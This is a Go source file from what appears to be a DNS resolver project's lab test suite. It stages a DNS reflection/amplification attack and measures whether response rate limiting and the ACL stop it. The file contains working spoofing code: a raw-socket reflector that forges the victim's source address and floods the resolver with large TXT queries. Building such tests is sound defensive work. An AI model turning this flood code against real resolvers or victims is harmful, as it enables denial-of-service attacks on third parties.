package scenario

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"github.com/gopacket/gopacket/layers"
	"github.com/miekg/dns"
	"golang.org/x/sys/unix"

	"github.com/rampart-fw/rampart/dns/server"
	"github.com/rampart-fw/rampart/lab"
)

// The reflection attack of issue 10: the attacker sends the resolver
// queries whose source address is the victim's, for a name with a large
// answer, so that the resolver's answers, many times the size of the
// queries, land on the victim. The victim is client2, inside the
// resolver's ACL (an outside victim only ever gets REFUSED, never larger
// than the query). The attacker floods from outside at a fixed rate; the
// victim's interface is captured, and the amplification factor is the IP
// octets the victim received from the resolver over the IP octets the
// attacker sent. Run with response rate limiting off, the factor shows the
// attack working; with it on, it must stay at or below 1.

// ReflectionOptions bound one run.
type ReflectionOptions struct {
	// RRL runs the resolver with resolver.rrl (ReflectionRRL); off, the
	// resolver answers every query.
	RRL bool
	// Duration is how long the attacker floods [5s].
	Duration time.Duration
	// Rate is the spoofed queries a second [2000].
	Rate int
}

// ReflectionRRL is the rate-limiting section the lab's resolver runs
// with: the example, BIND's usual settings.
const ReflectionRRL = "  rrl:\n    responses_per_second: 5\n    slip: 2\n    ipv4_prefix_length: 24\n    ipv6_prefix_length: 56\n"

// ReflectionName is what the spoofed queries ask: example.lab.'s TXT set
// too large for 1232 octets, so that every UDP answer is as large as the
// resolver sends.
const ReflectionName = "big.example.lab."

// reflectionPort is the victim's port the spoofed queries name.
const reflectionPort = 40053

// ReflectionResult is what one run saw.
type ReflectionResult struct {
	Options ReflectionOptions
	Queries uint64 // spoofed queries sent
	Lost    uint64 // refused by the attacker's own queue
	Elapsed time.Duration
	// AttackOctets are the IP octets the attacker sent; VictimOctets
	// those the victim received from the resolver in answer.
	AttackOctets, VictimOctets uint64
	// Answers are the answers the victim received; Slipped those that
	// were truncated with no records (RRL's slip).
	Answers, Slipped int
	// Metrics are the resolver's counters after the flood.
	Metrics map[string]float64
	// Other is client1's lookup of www.example.lab during the flood (same
	// client network, another name); Own the victim's own lookup of the
	// attacked name, over UDP and then TCP on truncation.
	Other, Own       error
	OtherTries       int
	OwnTries         int
	OwnTCP           bool
	OutsideAnswers   int    // answers the outside victim received
	OutsideRefused   int    // how many of them were REFUSED
	OutsideOctets    uint64 // and their octets
	OutsideSent      uint64 // octets spoofed from the outside victim
	OutsideRecursion int    // resolutions the outside queries caused
	Err              error
}

// Factor is the amplification at the victim.
func (r *ReflectionResult) Factor() float64 {
	if r.AttackOctets == 0 {
		return 0
	}
	return float64(r.VictimOctets) / float64(r.AttackOctets)
}

// Reflection is the demo's reflection scenario: the flood with RRL off
// (the attack works) and then on (it must not).
func Reflection() lab.Scenario {
	return lab.Scenario{Name: "reflection", Run: func(ctx context.Context, l *lab.Lab, env *lab.Env) []lab.Result {
		var out []lab.Result
		for _, rrl := range []bool{false, true} {
			r := RunReflection(ctx, l, env, ReflectionOptions{RRL: rrl})
			out = append(out, r.LabResults("reflection")...)
		}
		return out
	}}
}

// RunReflection starts the DNS hierarchy and the resolver (with RRL or
// without), warms the cache with the attacked name, floods, and measures.
func RunReflection(ctx context.Context, l *lab.Lab, env *lab.Env, opts ReflectionOptions) (res ReflectionResult) {
	if opts.Duration <= 0 {
		opts.Duration = 5 * time.Second
	}
	if opts.Rate <= 0 {
		opts.Rate = 2000
	}
	res.Options = opts
	mode := "off"
	if opts.RRL {
		mode = "on"
	}
	dir := filepath.Join(env.Dir, "reflection-rrl-"+mode)
	if err := os.MkdirAll(dir, 0o700); err != nil {
		res.Err = err
		return res
	}
	conf := "resolver:\n  metrics: " + resolverMetricsAddr + "\n"
	if opts.RRL {
		conf += ReflectionRRL
	}
	confPath := filepath.Join(dir, "resolver.yaml")
	if err := os.WriteFile(confPath, []byte(conf), 0o600); err != nil {
		res.Err = err
		return res
	}
	d, err := StartDNS(ctx, l, env.Rampart, dir, "--config", confPath)
	if err != nil {
		res.Err = fmt.Errorf("start the DNS hierarchy and resolver: %w", err)
		return res
	}
	defer d.Stop()
	// The cache holds the answer before the flood, over TCP, which RRL
	// does not count.
	if m, _, err := Ask(l.Host("client1"), d.Resolver4, ReflectionName, dns.TypeTXT, true); err != nil || len(m.Answer) == 0 {
		res.Err = fmt.Errorf("warm-up lookup of %s: %v", ReflectionName, answerOrErr(m, err))
		return res
	}
	victim, resolver := l.Addr("client2", 4), d.Resolver4.Addr()
	capPath := filepath.Join(dir, "victim.pcap")
	capture, err := l.Host("client2").Capture("eth0", capPath)
	if err != nil {
		res.Err = err
		return res
	}
	f, err := newReflector(l.Host("attacker"), netip.AddrPortFrom(victim, reflectionPort), d.Resolver4)
	if err != nil {
		capture.Stop()
		res.Err = err
		return res
	}
	env.Logf("RRL %s: attacker sends %d queries/s for %s TXT from %s (client2) to the resolver for %s", mode, opts.Rate, ReflectionName, victim, opts.Duration)
	fctx, cancel := context.WithTimeout(ctx, opts.Duration)
	done := make(chan struct{})
	go func() { defer close(done); f.run(fctx, opts.Rate) }()
	// Legitimate lookups while the flood runs.
	time.Sleep(opts.Duration / 2)
	res.OtherTries, _, res.Other = askWithRetry(l.Host("client1"), d.Resolver4, "www.example.lab", dns.TypeA)
	res.OwnTries, res.OwnTCP, res.Own = askWithRetry(l.Host("client2"), d.Resolver4, ReflectionName, dns.TypeTXT)
	<-done
	cancel()
	f.close()
	res.Queries, res.Lost, res.Elapsed = f.sent, f.lost, f.end.Sub(f.start)
	res.AttackOctets = f.sent * uint64(len(f.pkt))
	if f.err != nil {
		capture.Stop()
		res.Err = f.err
		return res
	}
	time.Sleep(500 * time.Millisecond) // the last answers in flight
	if _, err := capture.Stop(); err != nil {
		res.Err = err
		return res
	}
	v, err := answersIn(capPath, resolver, victim, reflectionPort)
	if err != nil {
		res.Err = err
		return res
	}
	res.VictimOctets, res.Answers, res.Slipped = v.octets, v.answers, v.slipped
	res.Metrics, res.Err = scrapeMetrics(l.Host("dns"), resolverMetricsAddr)
	if res.Err == nil {
		res.Err = res.outsideVictim(l, d, dir)
	}
	return res
}

// resolverMetricsAddr is where the lab's resolver serves its metrics,
// inside the dns host.
const resolverMetricsAddr = "127.0.0.1:9153"

// outsideVictim spoofs a short burst from web, a host outside the ACL:
// it must get REFUSED only, never larger than the queries, and the
// resolver must not resolve anything for it.
func (r *ReflectionResult) outsideVictim(l *lab.Lab, d *DNSHierarchy, dir string) error {
	before, err := settledQueries(d)
	if err != nil {
		return err
	}
	web := l.Addr("web", 4)
	capPath := filepath.Join(dir, "outside-victim.pcap")
	capture, err := l.Host("web").Capture("eth0", capPath)
	if err != nil {
		return err
	}
	f, err := newReflector(l.Host("attacker"), netip.AddrPortFrom(web, reflectionPort), d.Resolver4)
	if err != nil {
		capture.Stop()
		return err
	}
	ctx, cancel := context.WithTimeout(context.Background(), 500*time.Millisecond)
	f.run(ctx, 200)
	cancel()
	f.close()
	r.OutsideSent = f.sent * uint64(len(f.pkt))
	time.Sleep(300 * time.Millisecond)
	if _, err := capture.Stop(); err != nil {
		return err
	}
	if f.err != nil {
		return f.err
	}
	v, err := answersIn(capPath, d.Resolver4.Addr(), web, reflectionPort)
	if err != nil {
		return err
	}
	r.OutsideOctets, r.OutsideAnswers, r.OutsideRefused = v.octets, v.answers, v.refused
	after, err := resolverQueries(d)
	if err != nil {
		return err
	}
	r.OutsideRecursion = after - before
	return nil
}

// settledQueries is resolverQueries once the count stops moving: on a
// loaded machine the flood's last queries still wait in the resolver's
// socket after the flood ends, and would be counted against the outside
// burst that follows. It waits at most five seconds for two equal
// readings 200 ms apart.
func settledQueries(d *DNSHierarchy) (int, error) {
	last, err := resolverQueries(d)
	for deadline := time.Now().Add(5 * time.Second); err == nil && time.Now().Before(deadline); {
		time.Sleep(200 * time.Millisecond)
		var n int
		if n, err = resolverQueries(d); err == nil && n == last {
			break
		}
		last = n
	}
	return last, err
}

// resolverQueries is the resolver's count of resolutions asked for.
func resolverQueries(d *DNSHierarchy) (int, error) {
	out, err := server.ControlRequest(d.Control, "stats")
	if err != nil {
		return 0, err
	}
	for _, line := range strings.Split(out, "\n") {
		if k, v, ok := strings.Cut(line, "="); ok && k == "resolver.queries" {
			return strconv.Atoi(v)
		}
	}
	return 0, errors.New("no resolver.queries in the resolver's stats")
}

func answerOrErr(m *dns.Msg, err error) any {
	if err != nil {
		return err
	}
	return dns.RcodeToString[m.Rcode] + ", no answer"
}

// askWithRetry is a persistent stub resolver's lookup: up to ten tries
// over UDP, a second each, and TCP when an answer comes back truncated.
// During the flood the resolver's slow path is busy and, with RRL, every
// other answer to the victim's network for the attacked name is dropped;
// a client that keeps asking gets a truncated answer within a try or two
// once it is answered at all.
func askWithRetry(h *lab.Node, srv netip.AddrPort, name string, qtype uint16) (tries int, tcp bool, err error) {
	q := new(dns.Msg)
	q.SetQuestion(dns.Fqdn(name), qtype)
	q.SetEdns0(1232, false)
	for tries = 1; tries <= 10; tries++ {
		m, _, err := Query(h, srv, q, false, time.Second)
		if err != nil {
			continue
		}
		if !m.Truncated {
			return tries, false, nil
		}
		m, _, err = Query(h, srv, q, true, 3*time.Second)
		if err == nil && len(m.Answer) == 0 {
			err = fmt.Errorf("TCP: %s with no answer", dns.RcodeToString[m.Rcode])
		}
		return tries, true, err
	}
	return tries - 1, false, fmt.Errorf("no answer to %d tries over UDP", tries-1)
}

// victimCapture is what a capture of a victim shows of the resolver's
// answers to the spoofed queries.
type victimCapture struct {
	octets                    uint64 // IP octets, fragments included
	answers, slipped, refused int    // answers; RRL's truncated ones (TC, no records); REFUSED ones
}

// answersIn reads the capture at path: the datagrams from the resolver
// to the victim's port, and the fragments from the resolver to the victim.
func answersIn(path string, resolver, victim netip.Addr, port uint16) (victimCapture, error) {
	var v victimCapture
	err := eachAnswer(path, resolver, victim, port, func(ipLen int, dnsMsg []byte) {
		v.octets += uint64(ipLen)
		if dnsMsg == nil {
			return
		}
		v.answers++
		if len(dnsMsg) < 12 {
			return
		}
		if dnsMsg[2]&0x02 != 0 && binary.BigEndian.Uint16(dnsMsg[6:]) == 0 {
			v.slipped++
		}
		if dnsMsg[3]&0x0F == dns.RcodeRefused {
			v.refused++
		}
	})
	return v, err
}

// eachAnswer calls fn with the IP length and the DNS message of each
// IPv4 UDP datagram from resolver:53 to victim:port in the capture, and
// with the IP length and nil for each IPv4 fragment from resolver to
// victim.
func eachAnswer(path string, resolver, victim netip.Addr, port uint16, fn func(ipLen int, dnsMsg []byte)) error {
	pkts, err := lab.ReadPcap(path)
	if err != nil {
		return err
	}
	for _, p := range pkts {
		ip, _ := p.Layer(layers.LayerTypeIPv4).(*layers.IPv4)
		if ip == nil {
			continue
		}
		src, _ := netip.AddrFromSlice(ip.SrcIP)
		dst, _ := netip.AddrFromSlice(ip.DstIP)
		if src != resolver || dst != victim {
			continue
		}
		if ip.Flags&layers.IPv4MoreFragments != 0 || ip.FragOffset != 0 {
			// An answer in IP fragments: every octet reached the victim,
			// though only the first fragment names the port.
			fn(int(ip.Length), nil)
			continue
		}
		udp, _ := p.Layer(layers.LayerTypeUDP).(*layers.UDP)
		if udp == nil || udp.SrcPort != 53 || uint16(udp.DstPort) != port {
			continue
		}
		fn(int(ip.Length), udp.Payload)
	}
	return nil
}

// reflector sends the spoofed queries from the attacker: one IPv4 packet
// built once, its DNS ID changed per query, through a raw socket held
// open in the attacker host.
type reflector struct {
	fd         int
	pkt        []byte
	sa         unix.SockaddrInet4
	sent, lost uint64
	err        error
	start, end time.Time
}

func newReflector(h *lab.Node, victim, resolver netip.AddrPort) (*reflector, error) {
	q := new(dns.Msg)
	q.SetQuestion(ReflectionName, dns.TypeTXT)
	q.SetEdns0(4096, false)
	payload, err := q.Pack()
	if err != nil {
		return nil, err
	}
	pkt, err := lab.Spec{Src: victim.Addr(), Dst: resolver.Addr(), Proto: layers.IPProtocolUDP,
		SrcPort: victim.Port(), DstPort: resolver.Port(), Payload: payload}.Build()
	if err != nil {
		return nil, err
	}
	// No UDP checksum (IPv4 allows it), so that the ID can change freely.
	binary.BigEndian.PutUint16(pkt[20+6:], 0)
	f := &reflector{fd: -1, pkt: pkt, sa: unix.SockaddrInet4{Addr: resolver.Addr().As4()}}
	f.fd, err = rawSocket4(h)
	return f, err
}

// rawSocket4 opens, inside host h, an IPv4 raw socket whose packets carry
// their own header (any source address), for a flood to send through.
func rawSocket4(h *lab.Node) (int, error) {
	fd := -1
	err := h.Do(func() error {
		var err error
		if fd, err = unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW); err != nil {
			return fmt.Errorf("raw socket on %s: %w", h.Name, err)
		}
		return nil
	})
	return fd, err
}

// run sends rate queries a second, in bursts every 10 ms, until ctx ends.
func (f *reflector) run(ctx context.Context, rate int) {
	f.start = time.Now()
	defer func() { f.end = time.Now() }()
	tick := time.NewTicker(10 * time.Millisecond)
	defer tick.Stop()
	for n := 0; ; n++ {
		// The queries due by now, so that a late tick catches up.
		due := uint64(time.Since(f.start).Seconds() * float64(rate))
		for f.sent+f.lost < due {
			binary.BigEndian.PutUint16(f.pkt[28:], uint16(f.sent+f.lost))
			if err := unix.Sendto(f.fd, f.pkt, 0, &f.sa); err != nil {
				if errors.Is(err, unix.ENOBUFS) || errors.Is(err, unix.EAGAIN) {
					f.lost++
					continue
				}
				f.err = fmt.Errorf("send from the attacker: %w", err)
				return
			}
			f.sent++
		}
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
		}
	}
}

func (f *reflector) close() {
	if f.fd >= 0 {
		unix.Close(f.fd)
		f.fd = -1
	}
}

// LabResults renders the run as report lines.
func (r ReflectionResult) LabResults(scenario string) []lab.Result {
	mode := "off"
	if r.Options.RRL {
		mode = "on"
	}
	tried := fmt.Sprintf("queries for %s TXT spoofed from client2, %d/s for %s (RRL %s)", ReflectionName, r.Options.Rate, r.Options.Duration, mode)
	if r.Err != nil {
		return []lab.Result{{Scenario: scenario, Tried: tried, Defence: "-", Outcome: r.Err.Error()}}
	}
	m := r.Metrics
	details := []string{
		fmt.Sprintf("attacker: %d queries (%d octets) in %s, %d refused by its own queue", r.Queries, r.AttackOctets, r.Elapsed.Round(time.Millisecond), r.Lost),
		fmt.Sprintf("victim: %d answers, %d of them truncated by RRL, %d octets", r.Answers, r.Slipped, r.VictimOctets),
		fmt.Sprintf("resolver: %.0f responses limited, %.0f slipped, %.0f dropped; amplification ratio of 10.10.0.0/24 in its metrics %.2f",
			m[`rampart_dns_rrl_responses_total{action="limited"}`], m[`rampart_dns_rrl_responses_total{action="slipped"}`],
			m[`rampart_dns_rrl_responses_total{action="dropped"}`], m[`rampart_dns_client_amplification_ratio{client="10.10.0.0/24"}`]),
	}
	outcome := fmt.Sprintf("amplification at the victim %.2f (%d octets received for %d sent)", r.Factor(), r.VictimOctets, r.AttackOctets)
	var out []lab.Result
	if r.Options.RRL {
		out = append(out, lab.Result{Scenario: scenario, Kind: lab.Defence, Tried: tried,
			Defence: "response rate limiting: 5 answers/s per client network and name, every 2nd limited one truncated",
			OK:      r.Factor() <= 1.0 && r.Answers > 0, Outcome: outcome, Details: details})
	} else {
		out = append(out, lab.Result{Scenario: scenario, Kind: lab.Proof, Tried: tried, Defence: "none (expected: the attack works)",
			OK: r.Factor() > 1.0, Outcome: outcome, Details: details})
	}
	other := lab.Result{Scenario: scenario, Kind: lab.Check, Tried: "during the flood: client1 (the victim's network) looks up www.example.lab",
		Defence: "another name is another account", OK: r.Other == nil, Outcome: fmt.Sprintf("answered over UDP after %d tries", r.OtherTries)}
	if r.Other != nil {
		other.Outcome = r.Other.Error()
	}
	own := lab.Result{Scenario: scenario, Kind: lab.Check, Tried: "during the flood: the victim looks up " + ReflectionName + " itself",
		Defence: "a truncated answer sends a real client to TCP", OK: r.Own == nil}
	switch {
	case r.Own != nil:
		own.Outcome = r.Own.Error()
	case r.OwnTCP:
		own.Outcome = fmt.Sprintf("truncated answer after %d UDP tries, then answered over TCP", r.OwnTries)
	default:
		own.Outcome = fmt.Sprintf("answered over UDP after %d tries", r.OwnTries)
	}
	out = append(out, other, own)
	if r.Options.RRL {
		ok := r.OutsideRefused > 0 && r.OutsideRefused == r.OutsideAnswers && r.OutsideOctets <= r.OutsideSent && r.OutsideRecursion == 0
		out = append(out, lab.Result{Scenario: scenario, Kind: lab.Defence,
			Tried:   "queries spoofed from web (outside the ACL): an open resolver?",
			Defence: "ACL: REFUSED, never larger than the query, and no recursion",
			OK:      ok,
			Outcome: fmt.Sprintf("%d answers, %d of them REFUSED, %d octets for %d sent; %d resolutions",
				r.OutsideAnswers, r.OutsideRefused, r.OutsideOctets, r.OutsideSent, r.OutsideRecursion)})
	}
	return out
}
